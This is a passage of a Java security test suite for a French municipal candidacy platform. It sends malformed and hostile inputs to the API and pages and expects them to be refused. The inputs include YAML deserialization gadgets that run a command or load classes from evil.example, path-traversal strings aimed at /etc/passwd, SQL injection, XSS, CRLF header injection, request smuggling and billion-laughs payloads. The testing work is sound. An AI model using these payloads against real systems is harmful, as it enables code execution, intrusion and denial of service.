		cases.add(post("upload: no boundary", UPLOAD).body("multipart/form-data", wellFormed).expect(400));
		// A malformed media type: judged as such (415) when the form is read lazily, by the page or call that reads it.
		cases.add(post("upload: empty boundary", UPLOAD).body("multipart/form-data; boundary=", wellFormed).expect(400, 415));
		cases.add(post("upload: boundary of 1,000 characters not in the body", UPLOAD)
			.body("multipart/form-data; boundary=" + "b".repeat(1000), wellFormed)
			.expect(400));
		cases.add(post("upload: JSON body under a multipart type", UPLOAD)
			.body("multipart/form-data; boundary=BBBBBBBB", "{\"type\":\"photo\"}")
			.expect(400));
		cases.add(post("upload: body cut before the closing boundary", UPLOAD)
			.body("multipart/form-data; boundary=BBBBBBBB", Arrays.copyOf(wellFormed, wellFormed.length - 20))
			.expect(400));
		cases.add(post("upload: part headers without a blank line", UPLOAD)
			.body("multipart/form-data; boundary=BBBBBBBB",
					"--BBBBBBBB\r\nContent-Disposition: form-data; name=\"type\"\r\nphoto\r\n--BBBBBBBB--\r\n")
			.expect(400));
		cases.add(post("upload: parts without Content-Disposition", UPLOAD)
			.body("multipart/form-data; boundary=BBBBBBBB",
					"--BBBBBBBB\r\nContent-Type: text/plain\r\n\r\nphoto\r\n--BBBBBBBB--\r\n")
			.expect(400));
		cases.add(post("upload: a part header of 20 KB", UPLOAD)
			.body("multipart/form-data; boundary=BBBBBBBB",
					"--BBBBBBBB\r\nContent-Disposition: form-data; name=\"type\"\r\nX-Junk: " + "j".repeat(20_000)
							+ "\r\n\r\nphoto\r\n--BBBBBBBB--\r\n")
			.expect(400, 413));
		cases.add(post("upload: multipart/mixed", UPLOAD).body("multipart/mixed; boundary=BBBBBBBB", wellFormed).expect(415));
		cases.add(post("upload: JSON instead of multipart", UPLOAD).json("{\"type\":\"photo\",\"file\":\"JVBERi0=\"}")
			.expect(415));
		cases.add(post("upload: raw PDF as octet-stream", UPLOAD).body("application/octet-stream", Api.pdf("x"))
			.expect(415));
		cases.add(post("upload: raw PDF as application/pdf", UPLOAD).body("application/pdf", Api.pdf("x")).expect(415));
		cases.add(post("upload: form-urlencoded", UPLOAD).body("application/x-www-form-urlencoded", "type=photo&file=x")
			.expect(415));
		cases.add(post("upload: to an unknown candidacy", "/api/candidacies/unknown/documents")
			.multipart(part("type", null, null, "photo"), part("file", "c.pdf", "application/pdf", Api.pdf("x")))
			.expect(404));
		cases.add(post("upload: by a DDT", UPLOAD).as("ddt-81")
			.multipart(part("type", null, null, "photo"), part("file", "c.pdf", "application/pdf", Api.pdf("x")))
			.expect(403));
		cases.add(post("upload: by another collectivité", UPLOAD).as("mairie-rodez")
			.multipart(part("type", null, null, "photo"), part("file", "c.pdf", "application/pdf", Api.pdf("x")))
			.expect(404));
		cases.add(post("upload: download of an unknown document", "/api/candidacies/{candidacy}/documents/..%2F..%2Fetc%2Fpasswd")
			.method("GET")
			.expect(400, 404));
		cases.add(post("upload: download of a markup document id", "/api/candidacies/{candidacy}/documents/%3Cscript%3E")
			.method("GET")
			.expect(404));
	}

	private static void referentialCases(List<Case> cases) {
		String[][] yaml = { { "an unclosed flow sequence", "a: [" }, { "a mapping in a scalar", "key: : value" },
				{ "a bad indentation", "programme: ecoquartier\n  version: 2\n title: x" },
				{ "a tab indentation", "programme:\n\t- x" }, { "an empty document", "" }, { "a sequence", "- a\n- b" },
				{ "an unknown alias", "programme: *nowhere" },
				{ "a Python tag", "!!python/object/apply:os.system ['touch /tmp/pwned']" },
				{ "a Java constructor tag",
						"!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil.example/\"]]]]" },
				{ "dimensions as a string", "programme: ecoquartier\nversion: 2\ntitle: x\ndimensions: x" } };
		for (String[] document : yaml) {
			cases.add(post("referential: YAML with " + document[0], VERSIONS).as(ADMIN)
				.body("application/yaml", document[1])
				.expect(400));
		}
		cases.add(post("referential: YAML billion laughs (9 levels of 9 aliases)", VERSIONS).as(ADMIN)
			.body("application/yaml", billionLaughs(9, 9))
			.expect(400));
		cases.add(post("referential: YAML laughs under the alias limit (5 levels of 9)", VERSIONS).as(ADMIN)
			.body("application/yaml", billionLaughs(5, 9))
			.expect(400));
		cases.add(post("referential: YAML nested 10,000 deep", VERSIONS).as(ADMIN)
			.body("application/yaml", "programme: " + arrays(10_000))
			.expect(400));
		cases.add(post("referential: YAML block nesting 1,001 deep", VERSIONS).as(ADMIN)
			.body("application/yaml", yamlBlocks(1_001))
			.expect(400));
		cases.add(post("referential: YAML string of 4 MB", VERSIONS).as(ADMIN)
			.body(f -> "application/yaml", f -> utf8("programme: ecoquartier\ntitle: " + "t".repeat(4 * MB)))
			.expect(400, 413));
		cases.add(post("referential: YAML string of 600 KB, chunked", VERSIONS).as(ADMIN)
			.raw(f -> chunkedAsAdmin(f, utf8("programme: ecoquartier\ntitle: " + "t".repeat(600 * 1024))))
			.expect(400, 413));
		cases.add(post("referential: YAML with NUL", VERSIONS).as(ADMIN)
			.body("application/yaml", "programme: ecoquartier\u0000\nversion: 2")
			.expect(400));
		String[] json = { "{}", "[]", "{\"version\":\"two\"}", "{\"version\":99999999999}", "{\"scale\":{}}",
				"{\"dimensions\":[null,null]}" };
		for (String body : json) {
			cases.add(post("referential: JSON " + abbreviate(body), VERSIONS).as(ADMIN).json(body).expect(400));
		}
		cases.add(post("referential: JSON nested 10,000 deep", VERSIONS).as(ADMIN)
			.json("{\"dimensions\":" + arrays(10_000) + "}")
			.expect(400));
		cases.add(post("referential: a valid version with a title of 1,000 characters", VERSIONS).as(ADMIN)
			.json(f -> referential(f, "title", "T".repeat(1000)))
			.expect(400)
			.field("/title"));
		cases.add(post("referential: a valid version with a title holding NUL", VERSIONS).as(ADMIN)
			.json(f -> referential(f, "title", "Référentiel\u0000v2"))
			.expect(400)
			.field("/title"));
		cases.add(post("referential: a valid version for another programme", VERSIONS).as(ADMIN)
			.json(f -> referential(f, "programme", "pvd"))
			.expect(400)
			.field("/programme"));
		cases.add(post("referential: a valid version with a markup criterion id", VERSIONS).as(ADMIN)
			.json(f -> {
				ObjectNode node = (ObjectNode) read(referential(f, "title", "x"));
				((ObjectNode) node.get("dimensions").get(0).get("criteria").get(0)).put("id", "<script>alert(1)</script>");
				return node.toString();
			})
			.expect(400));
		cases.add(post("referential: sent by a collectivité", VERSIONS).json(f -> referential(f, "title", "x")).expect(403));
		cases.add(post("referential: text/plain", VERSIONS).as(ADMIN).body("text/plain", "programme: ecoquartier")
			.expect(415));
		cases.add(post("referential: application/xml", VERSIONS).as(ADMIN)
			.body("application/xml", "<referential><version>2</version></referential>")
			.expect(415));
		cases.add(post("referential: text/yaml", VERSIONS).as(ADMIN).body("text/yaml", "programme: ecoquartier").expect(415));
		cases.add(post("referential: unknown programme", "/api/referentials/%3Cscript%3E/versions").as(ADMIN)
			.json(f -> referential(f, "title", "x"))
			.expect(400, 404));
		cases.add(post("referential: version as text", VERSIONS + "/abc").as(ADMIN).method("GET").expect(400));
		cases.add(post("referential: version beyond an int", VERSIONS + "/99999999999").as(ADMIN).method("GET").expect(400));
		cases.add(post("referential: negative version", VERSIONS + "/-1").as(ADMIN).method("GET").expect(404));
		cases.add(post("referential: publish a version given as text", VERSIONS + "/abc/publish").as(ADMIN).expect(400));
		cases.add(post("referential: publish an unknown version", VERSIONS + "/99/publish").as(ADMIN).expect(404));
		cases.add(post("referential: publish the published version again", VERSIONS + "/1/publish").as(ADMIN).expect(409));
		cases.add(post("referential: pilot with a string", VERSIONS + "/1/pilot").as(ADMIN).json("\"81004\"").expect(400));
		cases.add(post("referential: pilot with collectivites as a string", VERSIONS + "/1/pilot").as(ADMIN)
			.json("{\"collectivites\":\"81004\"}")
			.expect(400));
		cases.add(post("referential: pilot with no collectivité", VERSIONS + "/1/pilot").as(ADMIN)
			.json("{\"collectivites\":[]}")
			.expect(400));
		cases.add(post("referential: pilot with null", VERSIONS + "/1/pilot").as(ADMIN).json("{\"collectivites\":null}")
			.expect(400));
		cases.add(post("referential: pilot the published version", VERSIONS + "/1/pilot").as(ADMIN)
			.json("{\"collectivites\":[\"81004\"]}")
			.expect(409));
		cases.add(post("referential: diff with a version as text", VERSIONS + "/1/diff/abc").as(ADMIN).method("GET").expect(400));
	}

	private static void campaignCases(List<Case> cases) {
		Object[][] dates = { { "a word", "tomorrow" }, { "month 13", "2031-13-45T00:00:00Z" },
				{ "no offset", "2031-01-01T00:00:00" }, { "an epoch number", 12345 }, { "the past", "2000-01-01T00:00:00Z" },
				{ "year 999999999", "+999999999-12-31T23:59:59Z" },
				{ "an offset of 25 hours", "2031-01-01T00:00:00+25:00" }, { "null", null },
				{ "year 10000", "+10000-01-01T00:00:00Z" } };
		for (Object[] date : dates) {
			cases.add(post("campaign: closesAt " + date[0], CAMPAIGNS).as(ADMIN).json(campaign("closesAt", date[1])).expect(400));
		}
		Object[] regions = { "99", "<script>alert(1)</script>", "93' OR '1'='1", "", List.of(), "93\u0000" };
		for (Object region : regions) {
			cases.add(post("campaign: region " + abbreviate(String.valueOf(region)), CAMPAIGNS).as(ADMIN)
				.json(campaign("region", region))
				.expect(400));
		}
		cases.add(post("campaign: region of 1 MB", CAMPAIGNS).as(ADMIN).json(f -> campaign("region", "9".repeat(MB))).expect(413));
		Object[] programmes = { "ecoquartier", "PVD", List.of(), null, "<b>pvd</b>" };
		for (Object programme : programmes) {
			cases.add(post("campaign: programme " + abbreviate(String.valueOf(programme)), CAMPAIGNS).as(ADMIN)
				.json(campaign("programme", programme))
				.expect(400));
		}
		cases.add(post("campaign: title of 1 MB", CAMPAIGNS).as(ADMIN).json(campaign("title", "T".repeat(MB))).expect(413));
		Object[][] titles = { { "of 201 characters", "T".repeat(201) },
				{ "with NUL", "Campagne\u0000" }, { "with a newline", "Campagne\nPACA" }, { "blank", " " },
				{ "as an array", List.of("x") } };
		for (Object[] title : titles) {
			cases.add(post("campaign: title " + title[0], CAMPAIGNS).as(ADMIN).json(campaign("title", title[1])).expect(400));
		}
		cases.add(post("campaign: broken JSON", CAMPAIGNS).as(ADMIN).json("{\"programme\":\"pvd\",").expect(400));
		cases.add(post("campaign: nested 10,000 deep", CAMPAIGNS).as(ADMIN).json("{\"title\":" + objects(10_000) + "}")
			.expect(400));
		cases.add(post("campaign: an array", CAMPAIGNS).as(ADMIN).json("[" + campaign("title", "x") + "]").expect(400));
		cases.add(post("campaign: text/plain", CAMPAIGNS).as(ADMIN).body("text/plain", campaign("title", "x")).expect(415));
		cases.add(post("campaign: application/xml", CAMPAIGNS).as(ADMIN)
			.body("application/xml", "<campaign><programme>pvd</programme></campaign>")
			.expect(415));
		cases.add(post("campaign: multipart", CAMPAIGNS).as(ADMIN).multipart(part("programme", null, null, "pvd")).expect(415));
		cases.add(post("campaign: opened by a collectivité", CAMPAIGNS).json(campaign("title", "x")).expect(403));
		cases.add(post("campaign: announce an unknown campaign", CAMPAIGNS + "/unknown/announce").as(ADMIN).expect(404));
		cases.add(post("campaign: announce a markup id", CAMPAIGNS + "/%3Cscript%3E/announce").as(ADMIN).expect(404));
		cases.add(post("campaign: announced by a collectivité", CAMPAIGNS + "/{campaign}/announce").expect(403));
		cases.add(post("campaign: announced by another region's préfet", CAMPAIGNS + "/{campaign}/announce").as("prefet-84")
			.expect(403));
	}

	private static void withdrawalCases(List<Case> cases) {
		cases.add(post("withdrawal: broken JSON", WITHDRAW).json("{\"comment\":").expect(400));
		cases.add(post("withdrawal: comment as array", WITHDRAW).json("{\"comment\":[]}").expect(400));
		cases.add(post("withdrawal: comment of 5,000 characters", WITHDRAW).json(write(obj("comment", "c".repeat(5000))))
			.expect(400)
			.field("comment"));
		cases.add(post("withdrawal: comment of 1 MB", WITHDRAW).json(f -> write(obj("comment", "c".repeat(MB))))
			.expect(413));
		cases.add(post("withdrawal: comment with NUL", WITHDRAW).json(write(obj("comment", "a\u0000b")))
			.expect(400)
			.field("comment"));
		cases.add(post("withdrawal: comment with a lone surrogate", WITHDRAW).json(write(obj("comment", "a\ud800")))
			.expect(400)
			.field("comment"));
		cases.add(post("withdrawal: nested 10,000 deep", WITHDRAW).json("{\"comment\":" + arrays(10_000) + "}").expect(400));
		cases.add(post("withdrawal: text/plain", WITHDRAW).body("text/plain", "Je retire").expect(415));
		cases.add(post("withdrawal: by a DDT", WITHDRAW).as("ddt-81").json("{}").expect(403));
		cases.add(post("withdrawal: by another collectivité", WITHDRAW).as("mairie-rodez").json("{}").expect(404));
	}

	private static void queryCases(List<Case> cases) {
		String[][] queries = { { "candidacies: unknown stage", "/api/candidacies?stage=FOO" },
				{ "candidacies: unknown status", "/api/candidacies?status=finished" },
				{ "candidacies: status with NUL", "/api/candidacies?status=IN_PROGRESS%00" },
				{ "candidacies: SQL in stage", "/api/candidacies?stage=CHARTER%27%20OR%201%3D1--" },
				{ "candidacies: two stages", "/api/candidacies?stage=CHARTER&stage=CONTRACT" },
				{ "candidacies: markup programme", "/api/candidacies?programme=%3Cscript%3E" },
				{ "candidacies: uppercase programme", "/api/candidacies?programme=ECOQUARTIER" },
				{ "candidacies: status of 6 KB", "/api/candidacies?status=" + "S".repeat(6_000) },
				{ "collectivites: unknown kind", "/api/collectivites?kind=FOO" },
				{ "collectivites: markup kind", "/api/collectivites?kind=%3Cscript%3E" },
				{ "tasks: markup candidacy", "/api/tasks?candidacy=%3Cscript%3E" },
				{ "campaigns: unknown programme", "/api/campaigns?programme=%3Cscript%3E" },
				{ "certificates: markup code", "/api/certificates/%3Cscript%3Ealert(1)%3C%2Fscript%3E" },
				{ "referentials: markup programme", "/api/referentials/%3Cscript%3E" } };
		for (String[] query : queries) {
			cases.add(post("query: " + query[0], query[1]).method("GET").expect(400, 404));
		}
	}

	private static void headerAndPathCases(List<Case> cases) {
		cases.add(post("header: one header of 16 KB", "/api/candidacies").method("GET")
			.header("X-Junk", "j".repeat(16 * 1024))
			.expect(400, 431)
			.bodyless());
		cases.add(post("header: one header of 64 KB", "/api/candidacies").method("GET")
			.header("X-Junk", "j".repeat(64 * 1024))
			.expect(400, 431)
			.bodyless());
		cases.add(post("header: 150 headers", "/api/candidacies").method("GET").headers(150).expect(400, 431).bodyless());
		cases.add(post("header: a URL of 20 KB", "/api/candidacies/" + "x".repeat(20 * 1024)).method("GET")
			.expect(400, 414, 431)
			.bodyless());
		cases.add(post("header: Basic credentials not in base64", "/api/candidacies").method("GET").as(null)
			.header("Authorization", "Basic !!!not-base64!!!")
			.expect(401));
		cases.add(post("header: Basic credentials without a colon", "/api/candidacies").method("GET").as(null)
			.header("Authorization", "Basic " + base64("admin"))
			.expect(401));
		cases.add(post("header: a wrong password", "/api/candidacies").method("GET").as(null)
			.header("Authorization", "Basic " + base64("admin:wrong"))
			.expect(401));
		cases.add(post("header: SQL in the user name", "/api/candidacies").method("GET").as(null)
			.header("Authorization", "Basic " + base64("' OR '1'='1:demo"))
			.expect(401));
		cases.add(post("header: NUL in the user name", "/api/candidacies").method("GET").as(null)
			.header("Authorization", "Basic " + base64("admin\u0000:demo"))
			.expect(401));
		cases.add(post("header: a user name of 4 KB", "/api/candidacies").method("GET").as(null)
			.header("Authorization", "Basic " + base64("u".repeat(4096) + ":demo"))
			.expect(401));
		cases.add(post("header: a bearer token", "/api/candidacies").method("GET").as(null)
			.header("Authorization", "Bearer eyJhbGciOiJub25lIn0.e30.")
			.expect(401));
		cases.add(post("header: Content-Length not a number", CANDIDACIES).raw(f -> request("POST", CANDIDACIES, f,
				"Content-Type: application/json\r\nContent-Length: abc\r\n", "{}"))
			.expect(400)
			.bodyless());
		cases.add(post("header: negative Content-Length", CANDIDACIES).raw(f -> request("POST", CANDIDACIES, f,
				"Content-Type: application/json\r\nContent-Length: -5\r\n", "{}"))
			.expect(400)
			.bodyless());
		cases.add(post("header: two different Content-Lengths", CANDIDACIES).raw(f -> request("POST", CANDIDACIES, f,
				"Content-Type: application/json\r\nContent-Length: 2\r\nContent-Length: 3\r\n", "{}"))
			.expect(400)
			.bodyless());
		cases.add(post("header: a malformed chunk", CANDIDACIES).raw(f -> request("POST", CANDIDACIES, f,
				"Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n", "zz\r\n{}\r\n0\r\n\r\n"))
			.expect(400)
			.bodyless());
		cases.add(post("header: a header name with a space", "/api/candidacies").raw(f -> request("GET", CANDIDACIES, f,
				"Bad Header: x\r\n", ""))
			.expect(400)
			.bodyless());
		cases.add(post("header: a header line without colon", "/api/candidacies").raw(f -> request("GET", CANDIDACIES, f,
				"NoColonHere\r\n", ""))
			.expect(400)
			.bodyless());
		cases.add(post("header: an unknown expectation", CANDIDACIES).raw(f -> request("POST", CANDIDACIES, f,
				"Content-Type: application/json\r\nExpect: 200-maybe\r\nContent-Length: 2\r\n", "{}"))
			.expect(400, 417)
			.bodyless());
		cases.add(post("header: no Host", "/api/candidacies").raw(f -> ("GET /api/candidacies HTTP/1.1\r\nAuthorization: "
				+ basic(ALBI) + "\r\nConnection: close\r\n\r\n").getBytes(StandardCharsets.ISO_8859_1))
			.expect(400)
			.bodyless());
		cases.add(post("header: two Hosts", "/api/candidacies").raw(f -> request("GET", CANDIDACIES, f,
				"Host: evil.example\r\n", ""))
			.expect(400)
			.bodyless());
		cases.add(post("header: a bad method token", "/api/candidacies").raw(f -> request("G@T", CANDIDACIES, f, "", ""))
			.expect(400, 405)
			.bodyless());
		cases.add(post("header: a control character in the request target", "/api/candidacies")
			.raw(f -> request("GET", "/api/candidacies\u0001", f, "", ""))
			.expect(400)
			.bodyless());
		cases.add(post("header: a raw space in the request target", "/api/candidacies")
			.raw(f -> request("GET", "/api/candidacies/a b", f, "", ""))
			.expect(400)
			.bodyless());
		String[][] paths = { { "encoded slashes", "/api/candidacies/..%2F..%2Fetc%2Fpasswd" },
				{ "dot segments above the root", "/api/candidacies/../../../etc/passwd" },
				{ "encoded dot segments", "/api/candidacies/%2e%2e/%2e%2e/etc/passwd" },
				{ "an encoded NUL", "/api/candidacies/%00" }, { "a path parameter", "/api/candidacies/;jsessionid=abc" },
				{ "encoded backslashes", "/api/candidacies/%5C..%5Cwin.ini" }, { "a double slash", "//api//candidacies" },
				{ "an encoded percent", "/api/candidacies/%25" }, { "invalid UTF-8", "/api/candidacies/%ff%fe" },
				{ "a markup id", "/api/candidacies/%3Cscript%3Ealert(1)%3C%2Fscript%3E" },
				{ "an unknown id", "/api/candidacies/00000000-0000-0000-0000-000000000000" },
				{ "an unknown API", "/api/unknown" } };
		for (String[] path : paths) {
			cases.add(post("path: " + path[0], path[1]).method("GET").expect(400, 404).bodyless());
		}
	}

	// =====================================================================================
	// One rule for text, at every entry
	// =====================================================================================

	/** Where a text may stand: lines (a comment), one line (an id, a code, a query), a name (a title, a file name). */
	enum Field {
		LINES, LINE, NAME
	}

	/**
	 * The hostile strings of the suite, each with the narrowest kind of field that still refuses it: one refused
	 * in lines is refused everywhere; one refused in a line is refused in a name too. (Halves of surrogate pairs
	 * are sent in JSON bodies above: a URL or a form carries UTF-8, which cannot hold them.)
	 */
	record Hostile(String label, String text, Field refusedFrom) {

		boolean refusedIn(Field field) {
			return switch (refusedFrom) {
				case LINES -> true;
				case LINE -> field != Field.LINES;
				case NAME -> field == Field.NAME;
			};
		}

		@Override
		public String toString() {
			return label;
		}

	}

	static final List<Hostile> HOSTILE = List.of(new Hostile("NUL alone", "\u0000", Field.LINES),
			new Hostile("NUL inside", "Quartier\u0000Nord", Field.LINES),
			new Hostile("ANSI escape", "\u001b[31mQuartier", Field.LINES), new Hostile("DEL", "Quartier\u007f", Field.LINES),
			new Hostile("C1 control", "Quartier\u0085", Field.LINES),
			new Hostile("non-character U+FFFE", "Quartier\uFFFE", Field.LINES),
			new Hostile("non-character U+FDD0", "\uFDD0", Field.LINES), new Hostile("newline", "Quartier\nNord", Field.LINE),
			new Hostile("CRLF header injection", "Quartier\r\nX-Injected: 1", Field.LINE),
			new Hostile("tab", "Quartier\tNord", Field.LINE), new Hostile("one zero-width space", "\u200B", Field.NAME),
			new Hostile("an RTL override", "doc\u202Efdp.exe", Field.NAME),
			new Hostile("a byte order mark", "\uFEFFQuartier", Field.NAME),
			new Hostile("a bidi isolate", "Quartier \u2066x\u2069", Field.NAME),
			new Hostile("ideographic spaces only", "\u3000\u3000", Field.NAME));

	/** The API's query parameters: each gets every string a line refuses, and names itself in the 400. */
	static final String[][] QUERIES = { { ALBI, "/api/tasks?candidacy=", "candidacy" },
			{ ADMIN, "/api/audit?actor=", "actor" }, { ADMIN, "/api/audit?action=", "action" },
			{ ADMIN, "/api/audit?candidacy=", "candidacy" }, { ALBI, "/api/candidacies?programme=", "programme" },
			{ ALBI, "/api/candidacies?stage=", "stage" }, { ALBI, "/api/candidacies?status=", "status" },
			{ ADMIN, "/api/campaigns?programme=", "programme" }, { ALBI, "/api/collectivites?q=", "q" },
			{ ALBI, "/api/collectivites?departement=", "departement" }, { ALBI, "/api/collectivites?kind=", "kind" },
			{ ALBI, "/api/candidacies/{candidacy}/certificate?kind=", "kind" } };

	/** The API's path ids (%s): 400 or 404, never a 500. */
	static final String[][] PATHS = { { ALBI, "GET", "/api/candidacies/%s" }, { ALBI, "GET", "/api/candidacies/%s/evaluation" },
			{ ALBI, "POST", "/api/candidacies/%s/withdraw" }, { ALBI, "GET", "/api/candidacies/{candidacy}/documents/%s" },
			{ ALBI, "GET", "/api/candidacies/%s/certificate" }, { ALBI, "GET", "/api/tasks/%s" },
			{ ALBI, "POST", "/api/tasks/%s/claim" }, { ADMIN, "GET", "/api/campaigns/%s" },
			{ ADMIN, "POST", "/api/campaigns/%s/announce" }, { ALBI, "GET", "/api/referentials/%s" },
			{ ADMIN, "GET", "/api/referentials/%s/versions" }, { ADMIN, "POST", "/api/referentials/%s/versions/1/publish" },
			{ ALBI, "GET", "/api/programmes/%s" }, { ALBI, "GET", "/api/programmes/%s/process" },
			{ ALBI, "GET", "/api/certificates/%s" }, { ADMIN, "POST", "/api/accounts/%s/disable" } };

	private static void textRuleCases(List<Case> cases) {
		for (Hostile h : HOSTILE) {
			String as = " with " + h.label;
			cases.add(post("rule: candidacy title" + as, CANDIDACIES).json(base("title", h.text)).expect(400).field("title"));
			cases.add(post("rule: campaign title" + as, CAMPAIGNS).as(ADMIN).json(campaign("title", h.text)).expect(400)
				.field("title"));
			if (!h.text.contains("\n")) { // a line break cannot stand in a multipart header
				cases.add(post("rule: file name" + as, UPLOAD)
					.multipart(part("type", null, null, "photo"), part("file", h.text, "application/pdf", Api.pdf("x")))
					.expect(400)
					.field(h.refusedFrom == Field.NAME ? "file" : null));
			}
			if (h.refusedIn(Field.LINES)) {
				cases.add(post("rule: candidacy description" + as, CANDIDACIES).json(base("description", h.text))
					.expect(400)
					.field("description"));
				cases.add(post("rule: completion comment" + as, CHARTER_TASK)
					.json(write(obj("outcome", "SUBMIT", "comment", h.text)))
					.expect(400)
					.field("comment"));
				cases.add(post("rule: assessment comment" + as, CONTRACT_TASK).json(f -> contract(f, "comment", h.text, null))
					.expect(400));
				cases.add(post("rule: withdrawal comment" + as, WITHDRAW).json(write(obj("comment", h.text)))
					.expect(400)
					.field("comment"));
				cases.add(post("rule: revocation reason" + as, "/api/certificates/ABCD-EFGH-JKLM/revoke").as(ADMIN)
					.json(write(obj("reason", h.text)))
					.expect(400)
					.field("reason"));
			}
			if (!h.refusedIn(Field.LINE)) {
				continue;
			}
			cases.add(post("rule: partner" + as, CANDIDACIES).json(base("partners", List.of(h.text))).expect(400)
				.field("partners[0]"));
			cases.add(post("rule: campaign" + as, CANDIDACIES).json(base("campaign", h.text)).expect(400).field("campaign"));
			cases.add(post("rule: collectivite" + as, CANDIDACIES).json(base("collectivite", h.text)).expect(400)
				.field("collectivite"));
			cases.add(post("rule: outcome" + as, CHARTER_TASK).json(write(obj("outcome", h.text))).expect(400)
				.field("outcome"));
			cases.add(post("rule: upload type" + as, UPLOAD)
				.multipart(part("type", null, null, h.text), part("file", "c.pdf", "application/pdf", Api.pdf("x")))
				.expect(400)
				.field("type"));
			cases.add(post("rule: pilot collectivité" + as, VERSIONS + "/1/pilot").as(ADMIN)
				.json(write(obj("collectivites", List.of(h.text))))
				.expect(400)
				.field("collectivites"));
			cases.add(post("rule: campaign region" + as, CAMPAIGNS).as(ADMIN).json(campaign("region", h.text)).expect(400)
				.field("region"));
			cases.add(post("rule: account scope" + as, "/api/accounts").as(ADMIN)
				.json(write(obj("username", "regle-" + Math.abs(h.label.hashCode()), "password", "Une phrase de passe solide 42",
						"role", "COLLECTIVITE", "scope", h.text)))
				.expect(400)
				.field("scope"));
			for (String[] query : QUERIES) {
				cases.add(post("rule: query " + query[1] + "…" + as, query[1] + encode(h.text)).as(query[0])
					.method("GET")
					.expect(400)
					.field(query[2]));
			}
			for (String[] path : PATHS) {
				cases.add(post("rule: path " + path[1] + " " + path[2] + as, String.format(path[2], encode(h.text)))
					.as(path[0])
					.method(path[1])
					.expect(400, 404)
					.bodyless());
			}
		}
	}

	static String encode(String text) {
		return java.net.URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
	}

	// =====================================================================================
	// The same strings through the pages, signed in as a browser is (session, CSRF)
	// =====================================================================================

	/** One form or address of the pages, with a hostile string in it. */
	record PageCase(String name, String user, PageRequest request) {

		@Override
		public String toString() {
			return name;
		}

	}

	@FunctionalInterface
	interface PageRequest {

		HttpResponse<String> send(Browser browser, Fixture f) throws IOException, InterruptedException;

	}

	static Stream<Arguments> pageCases() {
		List<PageCase> cases = new ArrayList<>();
		String closes = java.time.LocalDate.now().plusDays(30).toString();
		for (Hostile h : HOSTILE) {
			String as = " with " + h.label;
			cases.add(new PageCase("page: new candidacy title" + as, ALBI, (b, f) -> b.form("/collectivite/candidatures",
					"programme", "ecoquartier", "title", h.text)));
			cases.add(new PageCase("page: new campaign title" + as, ADMIN, (b, f) -> b.form("/administration/campagnes",
					"programme", "pvd", "region", "93", "title", h.text, "closesAt", closes)));
			if (!h.text.contains("\n")) {
				cases.add(new PageCase("page: document file name" + as, ALBI, (b, f) -> b.multipart(
						"/candidatures/" + f.candidacy + "/documents", part("type", null, null, "photo"),
						part("file", h.text, "application/pdf", Api.pdf("x")))));
			}
			if (h.refusedIn(Field.LINES)) {
				cases.add(new PageCase("page: new candidacy description" + as, ALBI, (b, f) -> b.form(
						"/collectivite/candidatures", "programme", "ecoquartier", "title", "Titre", "description", h.text)));
				cases.add(new PageCase("page: task comment" + as, ALBI, (b, f) -> b.form(
						"/collectivite/taches/" + f.charterTask, "outcome", "SUBMIT", "comment", h.text)));
				cases.add(new PageCase("page: assessment comment" + as, ALBI, (b, f) -> b.form(
						"/collectivite/taches/" + f.contractTask, "outcome", "SUBMIT", "level." + f.criteria.get(0),
						"SATISFACTORY", "comment." + f.criteria.get(0), h.text)));
				cases.add(new PageCase("page: withdrawal comment" + as, ALBI, (b, f) -> b.form(
						"/candidatures/" + f.withdrawable + "/retrait", "comment", h.text)));
				cases.add(new PageCase("page: pilot collectivités" + as, ADMIN, (b, f) -> b.form(
						"/administration/referentiels/ecoquartier/versions/1/pilote", "collectivites", h.text)));
			}
			if (!h.refusedIn(Field.LINE)) {
				continue;
			}
			cases.add(new PageCase("page: task outcome" + as, ALBI, (b, f) -> b.form(
					"/collectivite/taches/" + f.charterTask, "outcome", h.text)));
			cases.add(new PageCase("page: new campaign region" + as, ADMIN, (b, f) -> b.form("/administration/campagnes",
					"programme", "pvd", "region", h.text, "title", "Campagne", "closesAt", closes)));
			cases.add(new PageCase("page: new candidacy programme" + as, ALBI, (b, f) -> b.form(
					"/collectivite/candidatures", "programme", h.text, "title", "Titre")));
			cases.add(new PageCase("page: document type" + as, ALBI, (b, f) -> b.multipart(
					"/candidatures/" + f.candidacy + "/documents", part("type", null, null, h.text),
					part("file", "c.pdf", "application/pdf", Api.pdf("x")))));
			String id = encode(h.text);
			String[][] addresses = { { ALBI, "/candidatures/" + id }, { ALBI, "/candidatures/" + id + "/certificat" },
					{ ALBI, "/collectivite/taches/" + id }, { "ddt-81", "/instruction/taches/" + id },
					{ ADMIN, "/administration/referentiels/" + id + "/versions/1" },
					{ ADMIN, "/administration/referentiels/" + id + "/nouvelle" },
					{ ADMIN, "/administration/programmes/" + id } };
			for (String[] address : addresses) {
				cases.add(new PageCase("page: GET " + address[1].replace(id, "…") + as, address[0],
						(b, f) -> b.get(address[1])));
			}
			cases.add(new PageCase("page: withdrawal of a hostile id" + as, ALBI,
					(b, f) -> b.form("/candidatures/" + id + "/retrait", "comment", "Retrait")));
			cases.add(new PageCase("page: claim of a hostile id" + as, "ddt-81",
					(b, f) -> b.form("/instruction/taches/" + id + "/prise-en-charge")));
		}
		cases.add(new PageCase("page: withdrawal comment of 5,000 characters", ALBI, (b, f) -> b.form(
				"/candidatures/" + f.withdrawable + "/retrait", "comment", "c".repeat(5000))));
		cases.add(new PageCase("page: task comment of 4,001 characters", ALBI, (b, f) -> b.form(
				"/collectivite/taches/" + f.charterTask, "outcome", "SUBMIT", "comment", "c".repeat(4001))));
		cases.add(new PageCase("page: new candidacy title of 201 characters", ALBI, (b, f) -> b.form(
				"/collectivite/candidatures", "programme", "ecoquartier", "title", "T".repeat(201))));
		assertThat(cases.stream().map(PageCase::name).distinct().count()).isEqualTo(cases.size());
		return cases.stream().map(Arguments::of);
	}

	/**
	 * Every hostile string, through the pages: a 4xx French page (the form again with its message, or an
	 * error page), or, where the page answers by going back to the dossier (a document, a pilot), a French
	 * failure there; never a server error, and nothing stored.
	 */
	@ParameterizedTest(name = "{0}")
	@MethodSource("pageCases")
	void refusesThroughThePagesAndChangesNothing(PageCase hostile) throws Exception {
		try {
			HttpResponse<String> reply = hostile.request().send(browser(hostile.user()), fixture);
			String shown = hostile.name + " → " + reply.statusCode() + " " + abbreviate(reply.body());
